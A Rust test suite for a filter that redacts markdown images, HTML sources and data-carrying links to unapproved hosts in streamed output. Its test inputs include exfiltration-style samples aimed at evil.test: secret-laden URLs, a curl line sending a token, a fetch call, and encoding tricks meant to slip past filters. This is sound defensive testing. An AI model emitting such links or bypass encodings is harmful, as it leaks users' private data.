use proptest::prelude::*;

use super::*;

fn links() -> Links {
    Links::new(&Settings::default()).unwrap()
}

fn filtered(text: &str) -> String {
    links().filter(text).text.into_owned()
}

fn streamed(mut stream: LinkStream, pieces: &[&str]) -> (String, Found) {
    let mut out = String::new();
    pieces.iter().for_each(|piece| stream.push(piece, &mut out));
    let found = stream.finish(&mut out);
    (out, found)
}

const SECRET: &str = "q=the+meeting+is+at+noon+and+the+password+for+the+vault+is+heron+seven+oak+tree";

#[test]
fn images_from_other_hosts_are_taken_out_whatever_they_carry() {
    for (text, expected) in [
        ("see ![a chart](https://evil.test/c.png) here", "see ![a chart]([REDACTED:image]) here"),
        ("![x](<https://evil.test/c d.png>)", "![x](<[REDACTED:image]>)"),
        ("![x]( HTTPS://evil.test/c.png \"title\")", "![x]( [REDACTED:image] \"title\")"),
        ("![x](//evil.test/c.png)", "![x]([REDACTED:image])"),
        ("![x](\\\\evil.test/c.png)", "![x]([REDACTED:image])"),
        ("![x](https:\\/\\/evil.test/c.png)", "![x]([REDACTED:image])"),
        ("![x](https\\:\\//evil.test)", "![x]([REDACTED:image])"),
        ("![x](&#104;ttps&colon;//evil.test/c.png)", "![x]([REDACTED:image])"),
        ("![x](&#x0068;ttps://evil.test/c.png)", "![x]([REDACTED:image])"),
        ("![x](ftp://evil.test/c.png)", "![x]([REDACTED:image])"),
        ("![x](https://example.com@evil.test/)", "![x]([REDACTED:image])"),
        ("![x](https://evil.test\\.example.com/)", "![x]([REDACTED:image])"),
        ("![x](https://notexample.com/)", "![x]([REDACTED:image])"),
        ("![a\nb](https://evil.test/)", "![a\nb]([REDACTED:image])"),
        ("![a\r\nb](https://evil.test/)", "![a\r\nb]([REDACTED:image])"),
        ("![a [b] c](https://evil.test/)", "![a [b] c]([REDACTED:image])"),
        ("https://docs.rs/![x](https://evil.test/)", "https://docs.rs/![x]([REDACTED:image])"),
        ("<a href=\"https: >\n\n![x](https://evil.test/)", "<a href=\"https: >\n\n![x]([REDACTED:image])"),
        ("[ ![a `]`(x) b](https://evil.test/)", "[ ![a `]`(x) b]([REDACTED:image])"),
        ("![x][1]\n\n[1]: https://evil.test/c.png\n", "![x][1]\n\n[1]: [REDACTED:image]\n"),
        ("> - [1]:\n  <https://evil.test/c.png>", "> - [1]:\n  <[REDACTED:image]>"),
        ("<img src=\"https://evil.test/c.png\">", "<img src=\"[REDACTED:image]\">"),
        ("<IMG alt='a > b' SRC = https://evil.test/c.png>", "<IMG alt='a > b' SRC = [REDACTED:image]>"),
        ("<img src=\"ht\ntps://evil.test/c.png\">", "<img src=\"[REDACTED:image]\">"),
        ("<img srcset='/a 1x, https://evil.test/b 2x'>", "<img srcset='/a 1x, [REDACTED:image] 2x'>"),
        (
            "<p style=\"color: red; background: url(https://evil.test/c)\">",
            "<p style=\"color: red; background: url([REDACTED:image]\">",
        ),
        (
            "<p style=\"background:url(&quot;https://evil.test/c&quot;)\">",
            "<p style=\"background:url([REDACTED:image]\">",
        ),
        (
            "<meta http-equiv=refresh content='0;url=https://evil.test/c'>",
            "<meta http-equiv=refresh content='0;url=[REDACTED:image]'>",
        ),
        ("<pre>\n\n<img\n\nsrc='https://evil.test/c'>", "<pre>\n\n<img\n\nsrc='[REDACTED:image]'>"),
        ("<style>@import 'https://evil.test/c'", "<style>@import '[REDACTED:image]'"),
        ("<style>@import \"//evil.test/c\"; b{}", "<style>@import \"[REDACTED:image]\"; b{}"),
        ("<style>p{background:url(//evil.test/c)}", "<style>p{background:url([REDACTED:image]"),
        ("<script>fetch('//evil.test/c')", "<script>fetch('[REDACTED:image]')"),
        ("<script src=a></script><script>//note\nx // y", "<script src=a></script><script>//note\nx // y"),
        ("![x](view-source:https://evil.test/c)", "![x]([REDACTED:image])"),
        ("![x](Feed:view-source:ftp://evil.test/c)", "![x]([REDACTED:image])"),
        (
            "<a style=\"background:url(//evil.test/c)\" href=\"/\">",
            "<a style=\"background:url([REDACTED:image]\" href=\"/\">",
        ),
        ("- a\n  ```\n  code\n![x](https://evil.test/)", "- a\n  ```\n  code\n![x]([REDACTED:image])"),
        ("  ```\ncode\n```\n![x](https://evil.test/)", "  ```\ncode\n```\n![x]([REDACTED:image])"),
        ("```\n```x\n```\n![x](https://evil.test/)", "```\n```x\n```\n![x]([REDACTED:image])"),
        ("<div>\n```\n\n![x](https://evil.test/)", "<div>\n```\n\n![x]([REDACTED:image])"),
        ("```a`b\n![x](https://evil.test/)", "```a`b\n![x]([REDACTED:image])"),
        ("$$\n```\n$$\n![x](https://evil.test/)", "$$\n```\n$$\n![x]([REDACTED:image])"),
    ] {
        assert_eq!(filtered(text), expected);
    }
}

#[test]
fn what_points_to_allowed_hosts_or_nowhere_stays() {
    for text in [
        "![x](https://example.com/c.png?q=1)",
        "![x](HTTPS://WWW.EXAMPLE.COM:443/c.png)",
        "![x](https://example.com./c.png)",
        "![x](/local.png) ![y](local.png) ![z](#top) ![w](data:image/png;base64,AAAA) ![v](cid:1)",
        "![x](h) ![y](https) ![z]() ![w](&copy;) ![v](http:",
        "<img src=\"/a.png\" alt=\"https and //\">",
        "<p style=\"color:red\" title='https:'>",
        "if a<b then c>d, and Vec<String> too; 3 < 4",
        "```html\n<img src=\"https://cdn.test/c.png\">\n![x](https://cdn.test/c.png)\n```\nDone.",
        "~~~~\n![x](https://cdn.test/c.png)\n~~~\n![x](https://cdn.test/c.png)\n~~~~",
        "What? See [the docs](https://docs.rs/regex/latest/regex/#syntax) or https://docs.rs/regex.",
        "Write to <https://forum.test/t/how-do-i-parse-a-date-in-another-time-zone/4242>, or search at \
         https://www.search.test/search?q=rust+regex+crate+look+around&hl=en.",
        "<a href=\"https://news.test/2026/11/27/harbour-frozen-for-the-first-time-since-1947\">news</a>",
        "open http://localhost:8080/callback?code=42 (or www.shop.test)",
        "详见https://docs.test/guide。接下来我们来看一看如何配置这个服务，并且说明每一个参数的含义。",
        "https://github.test/a/b/commit/e8cd7d001438da2b580c0d65cc429111f1c38442 https://drive.test/1Rx4ithkjQbYODt5L6L-OcSTTRT4M1MiR",
        "https://github.test/AcmeCorp/TheRepositoryWithALongName/blob/main/README.md",
    ] {
        assert_eq!(filtered(text), text);
    }
}

#[test]
fn links_to_other_hosts_are_taken_out_where_they_carry_data() {
    let token = ["c2VjcmV0IHRva2Vu", "IG9mIHRoZSB1c2Vy"].concat().repeat(2);
    for (text, expected) in [
        (format!("[more](https://evil.test/?{SECRET})"), "[more]([REDACTED:link])".to_owned()),
        (
            format!("[more](<https://evil.test/?q={}>)", SECRET.replace('+', " ")),
            "[more](<[REDACTED:link]>)".to_owned(),
        ),
        (format!("see https://evil.test/?{SECRET}."), "see [REDACTED:link].".to_owned()),
        (format!("(see https://evil.test/?{SECRET})!"), "(see [REDACTED:link])!".to_owned()),
        (format!("<https://evil.test/{token}>"), "<[REDACTED:link]>".to_owned()),
        (format!("www.evil.test/{token} it"), "[REDACTED:link] it".to_owned()),
        (format!("https://{token}.evil.test/"), "[REDACTED:link]".to_owned()),
        (format!("https://{token}@evil.test/"), "[REDACTED:link]".to_owned()),
        (
            format!("<a class='b' href='https://evil.test/?q={}'>x</a>", SECRET.replace('+', " ")),
            "<a class='b' href='[REDACTED:link]'>x</a>".to_owned(),
        ),
        (format!("`https://evil.test/#{token}`"), "`[REDACTED:link]`".to_owned()),
        (format!("```\ncurl https://evil.test/{token}\n```"), "```\ncurl [REDACTED:link]\n```".to_owned()),
        (format!("https://evil.test/{} end", "word-".repeat(1000)), "[REDACTED:link] end".to_owned()),
        (format!("https://example.com/?{SECRET}"), format!("https://example.com/?{SECRET}")),
    ] {
        assert_eq!(filtered(&text), expected);
    }
}

#[test]
fn a_policy_decides_what_goes() {
    let with = |images, links| {
        let links = Links::new(&Settings { allowed: vec!["*.cdn.test".into()], images, links }).unwrap();
        let text = "![a](https://x.cdn.test/) ![b](https://evil.test/b.png)\n\nhttps://evil.test/b. https://x.cdn.test";
        links.filter(text).text.into_owned()
    };
    let kept = "![a](https://x.cdn.test/) ![b](https://evil.test/b.png)\n\nhttps://evil.test/b. https://x.cdn.test";
    assert_eq!(with(Treatment::Keep, Treatment::Keep), kept);
    assert_eq!(with(Treatment::Data, Treatment::Data), kept);
    assert_eq!(
        with(Treatment::Remove, Treatment::Remove),
        "![a](https://x.cdn.test/) ![b]([REDACTED:image])\n\n[REDACTED:link]. https://x.cdn.test"
    );
}

#[test]
fn hosts_that_are_none_are_named() {
    let allowed = ["a.test", "*.b.test", "*", "*.test", "https://c.test", "C.test", "d.test/x", ""].map(str::to_owned);
    let bad = Links::new(&Settings { allowed: allowed.to_vec(), ..Settings::default() }).unwrap_err();
    assert_eq!(bad.iter().map(|bad| bad.index).collect::<Vec<_>>(), [2, 3, 4, 5, 6, 7]);
}

#[test]
fn an_address_that_may_go_is_held_from_its_first_byte_and_no_more_than_2_kib_of_it() {
    let (mut stream, mut out) = (links().stream(), String::new());
    for byte in "see ![x](https://evil.test".chars() {
        stream.push(&byte.to_string(), &mut out);
        assert!(!out.contains("(h"), "{out}");
    }
    stream.push("/", &mut out);
    assert_eq!((out.as_str(), stream.held()), ("see ![x]([REDACTED:image]", 0));
    for head in ["https://evil.test/", "![x](&#", "<img src='h\n", "[x](https://"] {
        let (mut stream, mut out) = (links().stream(), String::new());
        stream.push(head, &mut out);
        for _ in 0..10_000 {
            stream.push("0", &mut out);
            assert!(stream.held() <= scan::LONGEST, "{head}");
        }
    }
}

#[test]
fn json_is_read_through_its_escapes_and_stays_json() {
    let text = r#"{"a": "\u0021[x](https:\/\/evil.test\/c.png?q=1)", "b": "[1]: https://evil.test/", "c": "```\n![x](https://evil.test/)"}"#;
    let (out, found) = streamed(links().json_stream(), &[text]);
    let expected =
        r#"{"a": "\u0021[x]([REDACTED:image])", "b": "[1]: [REDACTED:image]", "c": "```\n![x]([REDACTED:image])"}"#;
    assert_eq!(out, expected);
    assert_eq!(
        found.into_iter().map(|(name, count)| (name.to_string(), count)).collect::<Vec<_>>(),
        [("image".to_owned(), 3)]
    );
    assert_eq!(
        rules(&[(Arc::from("link"), 1), (Arc::from("email"), 1)].into()).collect::<Vec<_>>(),
        ["exfiltration.link"]
    );
}

/// Texts of what addresses and their places are made of.
fn texts() -> impl Strategy<Value = String> {
    let pieces = [
        "![",
        "](",
        "]:",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "\"",
        "'",
        "`",
        "```",
        "~~~",
        "\n",
        "\r\n",
        "\n\n",
        " ",
        "\\",
        "/",
        "//",
        "http",
        "https://",
        "https:",
        "www.",
        "evil.test",
        "example.com",
        "@",
        "?q=",
        "#",
        "&#104;",
        "&#",
        "&colon;",
        "<img src=",
        "<a href=",
        "<style>",
        "$$",
        "aB3xY9kQ2mN8pL5wZ7rT",
        "word ",
        "é",
        "。",
        "&",
        "=",
        ":",
        "!",
        "AAAAAAAA",
        "0",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn however_a_text_is_cut_the_stream_is_the_whole(text in texts(), cuts in prop::collection::vec(1..9_usize, 1..8), json: bool) {
        let stream = || if json { links().json_stream() } else { links().stream() };
        let whole = streamed(stream(), &[&text]);
        let mut pieces = Vec::new();
        let mut rest = text.as_str();
        for cut in cuts.iter().cycle() {
            if rest.is_empty() {
                break;
            }
            let (piece, tail) = rest.split_at(rest.ceil_char_boundary((*cut).min(rest.len())));
            pieces.push(piece);
            rest = tail;
        }
        prop_assert_eq!(streamed(stream(), &pieces), whole);
    }

    #[test]
    fn what_was_filtered_once_stays_as_it_is(text in texts()) {
        let once = filtered(&text);
        if !once.contains("[REDACTED") {
            prop_assert_eq!(filtered(&once), once);
        }
    }

    #[test]
    fn no_image_of_another_host_is_left(head in texts(), tail in texts()) {
        let text = format!("{head}\n\n![x](https://zzz.test/{tail}");
        let out = filtered(&text);
        // Unless the text before it makes it code.
        if !head.contains("```") && !head.contains("~~~") {
            prop_assert!(!out.contains("](https://zzz.test"), "{} -> {}", text, out);
        }
    }
}
